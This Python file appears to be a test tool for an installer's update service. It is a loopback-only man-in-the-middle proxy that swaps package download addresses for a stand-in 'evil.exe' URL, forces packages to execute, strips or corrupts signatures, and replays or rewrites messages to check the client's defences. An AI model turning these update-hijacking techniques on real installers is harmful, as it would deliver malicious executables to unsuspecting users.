#!/usr/bin/env python3
"""A man in the middle between the installer and its update service, for tests.

Forwards each request to the upstream service and changes the answer on its
way back, as a network attacker would:

  pass       nothing changed
  address    every package's address points at --evil-url
  exe        every package is marked to run ("excuteExe": true)
  strip      the signature header removed
  mangle     the signature header replaced by text that is not a signature
  flip       one byte of the body changed (same length)
  replay     the first answer (with its headers) is sent for every request
  request    the request itself rewritten before it is forwarded: the product
             and version asked become --ask-soft and --ask-version, the nonce
             header kept, so the answer is genuinely signed for the nonce

The mode is --mode, or per request a path prefix /mode/<mode>/ (removed
before forwarding). Binds 127.0.0.1 only; every exchange is bounded in size
and time; stops on SIGTERM or after --max-seconds.

    mitm_proxy.py --port 9006 --upstream 9016 --mode address \\
        --evil-url http://127.0.0.1:9007/evil.exe --ready-file ready.json
"""

import argparse
import http.client
import http.server
import json
import os
import signal
import socketserver
import sys
import threading
import time
import urllib.parse

MODES = ("pass", "address", "exe", "strip", "mangle", "flip", "replay", "request")
SIGNATURE = "x-pavonix-signature"
MAX_BODY = 4 * 1024 * 1024
# Headers the proxy sets itself.
HOP = {"content-length", "connection", "transfer-encoding", "keep-alive", "date", "server"}


def rewrite(body, change):
    doc = json.loads(body.decode("utf-8"))
    for pkg in doc.get("data", {}).get("softList", []):
        change(pkg)
    return json.dumps(doc, ensure_ascii=False, separators=(",", ":")).encode("utf-8")


def rewrite_request(body, soft, version):
    """The form body with requestStr's first product and version replaced."""
    fields = urllib.parse.parse_qsl(body.decode("latin-1"), keep_blank_values=True)
    out = []
    for name, value in fields:
        if name == "requestStr":
            doc = json.loads(value.encode("latin-1").decode("utf-8"))
            doc["data"]["softList"][0].update(soft=soft, version=version)
            value = json.dumps(doc, separators=(",", ":"), sort_keys=True) + "\n"
        out.append("%s=%s" % (urllib.parse.quote(name, safe=""), urllib.parse.quote(value, safe="")))
    return "&".join(out).encode("ascii")


class Proxy(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True

    def __init__(self, port, upstream, mode, evil_url, log_path, ask=("levyDesk", "V1.0")):
        super().__init__(("127.0.0.1", port), Handler)
        self.ask = ask
        self.upstream = upstream
        self.mode = mode
        self.evil_url = evil_url
        self.log_path = log_path
        self.recorded = None
        self.lock = threading.Lock()

    def log(self, entry):
        if self.log_path:
            with self.lock, open(self.log_path, "a", encoding="utf-8") as f:
                f.write(json.dumps(entry) + "\n")


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 30

    def log_message(self, fmt, *args):
        pass

    def do_POST(self):
        self.relay("POST")

    def do_GET(self):
        self.relay("GET")

    def relay(self, method):
        srv = self.server
        path, mode = self.path, srv.mode
        if path.startswith("/mode/"):
            _, _, rest = path.partition("/mode/")
            mode, _, tail = rest.partition("/")
            path = "/" + tail
        if mode not in MODES:
            self.answer(400, [], b"unknown mode")
            return
        length = int(self.headers.get("Content-Length") or 0)
        if length > MAX_BODY:
            self.answer(413, [], b"too large")
            return
        body = self.rfile.read(length) if length else b""
        headers = {k: v for k, v in self.headers.items() if k.lower() not in HOP}
        asked = None
        if mode == "request" and method == "POST" and body:
            try:
                body = rewrite_request(body, *srv.ask)
                asked = body.decode("ascii")
            except (ValueError, KeyError, IndexError, TypeError, AttributeError):
                pass
        conn = http.client.HTTPConnection("127.0.0.1", srv.upstream, timeout=30)
        try:
            conn.request(method, path, body=body if method == "POST" else None, headers=headers)
            resp = conn.getresponse()
            status, rheaders, rbody = resp.status, resp.getheaders(), resp.read(MAX_BODY)
        except OSError as exc:
            self.answer(502, [], ("upstream: %s" % exc).encode())
            return
        finally:
            conn.close()
        rheaders = [(k, v) for k, v in rheaders if k.lower() not in HOP]
        if mode == "replay":
            with srv.lock:
                if srv.recorded is None:
                    srv.recorded = (status, rheaders, rbody)
                status, rheaders, rbody = srv.recorded
        elif status == 200 and mode == "address":
            rbody = rewrite(rbody, lambda p: p.__setitem__("address", srv.evil_url))
        elif status == 200 and mode == "exe":
            rbody = rewrite(rbody, lambda p: p.__setitem__("excuteExe", True))
        elif mode == "strip":
            rheaders = [(k, v) for k, v in rheaders if k.lower() != SIGNATURE]
        elif mode == "mangle":
            rheaders = [(k, "0" * 127 + "x" if k.lower() == SIGNATURE else v) for k, v in rheaders]
        elif mode == "flip" and rbody:
            i = len(rbody) // 2
            rbody = rbody[:i] + bytes([rbody[i] ^ 0x01]) + rbody[i + 1:]
        srv.log({"mode": mode, "path": path, "status": status, "asked": asked,
                 "body": rbody.decode("utf-8", "replace")})
        self.answer(status, rheaders, rbody)

    def answer(self, status, headers, body):
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--upstream", type=int, required=True, help="port of the update service")
    ap.add_argument("--mode", choices=MODES, default="pass")
    ap.add_argument("--evil-url", default="http://127.0.0.1:9007/evil.exe")
    ap.add_argument("--ask-soft", default="levyDesk", help="request mode: the product asked for")
    ap.add_argument("--ask-version", default="V1.0", help="request mode: the version asked for")
    ap.add_argument("--log", help="one JSON line per answer")
    ap.add_argument("--ready-file", help="written with {\"port\": N} once listening")
    ap.add_argument("--max-seconds", type=float, default=600.0)
    args = ap.parse_args()
    srv = Proxy(args.port, args.upstream, args.mode, args.evil_url, args.log,
                (args.ask_soft, args.ask_version))
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    if args.ready_file:
        tmp = args.ready_file + ".tmp"
        with open(tmp, "w") as f:
            json.dump({"port": srv.server_address[1]}, f)
        os.replace(tmp, args.ready_file)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *a: stop.set())
    signal.signal(signal.SIGINT, lambda *a: stop.set())
    deadline = time.monotonic() + args.max_seconds
    while not stop.is_set() and time.monotonic() < deadline:
        stop.wait(0.5)
    srv.shutdown()
    srv.server_close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
